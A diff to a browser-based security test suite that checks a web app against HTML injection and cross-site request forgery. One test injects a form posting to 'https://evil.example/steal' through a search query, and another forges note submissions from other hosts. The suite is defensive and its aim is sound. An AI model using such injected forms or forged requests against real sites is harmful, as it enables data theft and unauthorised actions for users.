@@ -169,7 +169,8 @@ def test_a_form_that_is_injected_sends_nothing_to_another_site(tab: Any) -> None
     tab.context.route("https://evil.example/**", lambda route: (evil.append(route.request.url), route.abort()))
     form = "<form id=bad action=https://evil.example/steal><input name=x value=y><button id=send>send</button></form>"
     tab.goto(f"https://{HOST}/search?q=" + re.sub("[^a-z]", lambda found: f"%{ord(found[0]):02x}", form))
-    tab.click("#send")
+    tab.click("#send", no_wait_after=True)
+    tab.wait_for_timeout(300)
     assert evil == [] and tab.url.startswith(f"https://{HOST}/")
 
 
@@ -241,7 +242,7 @@ def test_a_form_of_another_site_changes_nothing(tab: Any, host: str) -> None:
         tab.evaluate(POST, [f"https://{HOST}/notes", f"forged by {host}"])
     # A page of the same site sends the cookie along (SameSite knows sites, not origins): that is what CSRF checks stop.
     said = tab.inner_text("body")
-    assert ("csrf.invalid" in said) or (host == "evil.example" and "Sign in first" in said), said
+    assert ("csrf.origin" in said) or (host == "evil.example" and "Sign in first" in said), said
     keep(tab, f"pages-forged-by-{host}")
     tab.goto(f"https://{HOST}/")
     assert "forged" not in tab.inner_text("#notes")
